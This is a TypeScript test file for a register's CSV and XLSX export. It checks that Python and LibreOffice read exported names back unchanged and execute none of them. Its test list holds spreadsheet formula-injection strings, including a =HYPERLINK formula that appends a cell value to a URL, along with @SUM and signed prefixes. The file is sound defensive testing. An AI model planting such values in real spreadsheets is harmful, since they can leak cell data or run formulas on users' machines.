import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { csv } from "../src/export/csv.ts";
import { csvEvidence } from "../src/export/csv-evidence.ts";
import { xlsx } from "../src/export/xlsx.ts";
import type { RegisterRecords } from "../src/types/record.ts";
import { madeUpRecords, WHOLE } from "./made-up/made-up-records.ts";

/** Names that a spreadsheet might run, split, fold or take for a number, a date or a tag. */
const HOSTILE = [
  '=HYPERLINK("https://example.org/"&A1,"click")',
  "+212 5 37",
  "-1+1",
  "@SUM(A1:A9)",
  "＝1+1",
  " =1+1",
  '"=1+1"',
  "'quoted",
  "two\nlines, a comma; a semicolon\tand a tab",
  "carriage\rreturn",
  "001",
  "1/2",
  "2025-09",
  "1E5",
  "TRUE",
  "<b>&amp;</b> _x000D_",
  "مذكرة تفاهم (MoU) بين المغرب وتركيا",
  "İçişleri Bakanı Şükrü Iğdır’ın « ziyareti »",
  "L'Été à Nîmes – « cœur »",
  "\u202bالعربية\u202c and Latin",
  "😀",
];

/** The made-up register with each of these as the name of somebody. */
function hostileRecords(): RegisterRecords {
  const records = madeUpRecords();
  const engagements = [...records.engagements()];
  const parties = [...records.parties()];
  const [person] = parties.filter(({ type }) => type === "person");
  const [talks] = engagements.filter(({ kind, parent }) => kind === "talks" && parent !== null);
  if (person === undefined || talks === undefined) throw new Error("the made-up register has no person or no talks");
  const named = HOSTILE.map((name, at) => ({ ...person, id: `par_hostile${at}` as const, name }));
  const contacts = named.map(({ id }, at) => ({
    ...talks,
    id: `eng_hostile${String(at).padStart(2, "0")}` as const,
    parent: null,
    participants: [{ party: id, capacities: ["visitor" as const], represents: "MA", office: null }, ...talks.participants.slice(1)],
    outcomes: [{ kind: "agreement" as const, text: HOSTILE[at] ?? "", language: "ar" }],
  }));
  return { ...records, engagements: () => [...engagements, ...contacts], parties: () => [...parties, ...named] };
}

const folder = mkdtempSync(join(tmpdir(), "dragoman-tables-"));
afterAll(() => rmSync(folder, { recursive: true }));
const path = (name: string) => join(folder, name);
const tables = {
  contacts: [...csv.write(hostileRecords(), WHOLE)].join(""),
  evidence: [...csvEvidence.write(hostileRecords(), WHOLE)].join(""),
};
writeFileSync(path("contacts.csv"), tables.contacts);
writeFileSync(path("evidence.csv"), tables.evidence);
writeFileSync(path("register.xlsx"), Buffer.concat([...xlsx.write(hostileRecords(), WHOLE)]));

type Table = string[][];
const table = (text: string): Table => parse(text, { bom: true, relax_column_count: true }) as Table;
/** A spreadsheet keeps one sign for the end of a line within a cell. */
const lineFeeds = (rows: Table): Table => rows.map((row) => row.map((cell) => cell.replaceAll(/\r\n?/g, "\n")));

it("the tables hold every hostile name", () => {
  expect(table(tables.contacts).filter(([id]) => id?.startsWith("eng_hostile"))).toHaveLength(HOSTILE.length);
});

const READ = `
import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as file:
    json.dump(list(csv.reader(file, strict=True)), sys.stdout)
`;
describe("Python's csv module", () => {
  it.each(["contacts", "evidence"] as const)("reads %s cell by cell", (name) => {
    const read = JSON.parse(execFileSync("python3", ["-c", READ, path(`${name}.csv`)], { encoding: "utf8", maxBuffer: 1 << 28 }));
    expect(read).toEqual(table(tables[name]));
  });
});

/** Comma, double quote, UTF-8, from the first line; cells as they stand; every sheet in a file of its own. */
const AS_TEXT = "44,34,76,1,,0,false,false,false,false,false,-1";

/** What LibreOffice has understood of a file, as it writes it out again. */
function opened(file: string, ...more: readonly string[]): string {
  const out = path(`out-${file}`);
  mkdirSync(out, { recursive: true });
  const profile = `-env:UserInstallation=file://${path("profile")}`;
  const args = ["--headless", profile, ...more, "--convert-to", `csv:Text - txt - csv (StarCalc):${AS_TEXT}`, "--outdir", out, path(file)];
  execFileSync("soffice", args, { stdio: "pipe" });
  return out;
}

describe("LibreOffice", () => {
  it("reads the workbook cell by cell", { timeout: 120_000 }, () => {
    const out = opened("register.xlsx");
    for (const [sheet, text] of [
      ["Contacts", tables.contacts],
      ["Evidence", tables.evidence],
    ] as const) {
      expect(lineFeeds(table(readFileSync(join(out, `register-${sheet}.csv`), "utf8")))).toEqual(lineFeeds(table(text)));
    }
  });

  it("reads the csv cell by cell", { timeout: 120_000 }, () => {
    const columns = table(tables.contacts)[0]
      ?.map((_, at) => `${at + 1}/2`)
      .join("/");
    const out = opened("contacts.csv", `--infilter=CSV:44,34,76,1,${columns}`);
    expect(lineFeeds(table(readFileSync(join(out, "contacts-contacts.csv"), "utf8")))).toEqual(lineFeeds(table(tables.contacts)));
  });

  it("runs nothing of it, also where it guesses what cells are", { timeout: 120_000 }, () => {
    const out = opened("contacts.csv", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true");
    const read = table(readFileSync(join(out, "contacts-contacts.csv"), "utf8"));
    const names = read[0]?.indexOf("visitor_name") ?? -1;
    const ran = read.filter(([id]) => id?.startsWith("eng_hostile")).map((row) => row[names]);
    expect(ran.slice(0, 8)).toEqual(HOSTILE.slice(0, 8).map((name) => `'${name}`));
  });
});
